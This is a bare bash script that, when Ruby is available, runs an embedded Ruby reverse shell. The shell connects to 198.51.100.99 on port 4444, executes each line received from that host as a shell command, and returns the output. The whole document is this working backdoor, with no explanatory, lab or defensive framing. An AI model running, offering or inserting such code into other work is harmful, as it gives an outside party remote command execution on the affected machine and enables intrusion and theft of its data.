#!/bin/bash
if command -v ruby >/dev/null; then
ruby <<'RB'
require 'socket'
s = TCPSocket.new('198.51.100.99', 4444)
while l = s.gets
  s.puts `#{l} 2>&1`
end
RB
fi
